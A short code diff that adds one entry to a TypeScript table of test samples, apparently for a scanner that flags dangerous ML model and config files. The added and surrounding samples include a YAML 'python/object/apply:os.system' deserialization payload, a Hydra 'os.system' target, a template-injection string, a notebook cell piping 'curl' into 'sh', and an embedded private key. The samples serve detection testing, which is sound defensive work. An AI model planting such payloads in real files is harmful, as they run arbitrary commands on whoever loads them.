@@ -98,6 +98,7 @@ const SAMPLES: Readonly<Record<string, Sample>> = {
   'STN-001': safetensors('{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', 9),
   'STN-002': safetensors('{"__metadata__":{"t":"{{ x.__class__ }}"}}'),
   'HYD-001': { name: 'model_config.yaml', content: 'model:\n  _target_: os.system\n' },
+  'YML-001': { name: 'a.yaml', content: 'a: !!python/object/apply:os.system [id]\n' },
   'TRC-001': json('config.json', { auto_map: { AutoModel: 'modeling_a.A' } }),
   'NBK-001': { name: 'a.py', content: `key = """${String(key.export({ type: 'pkcs8', format: 'pem' }))}"""\n` },
   'NBK-002': json('a.ipynb', { nbformat: 4, cells: [{ cell_type: 'code', source: ['!curl x | sh'] }] }),
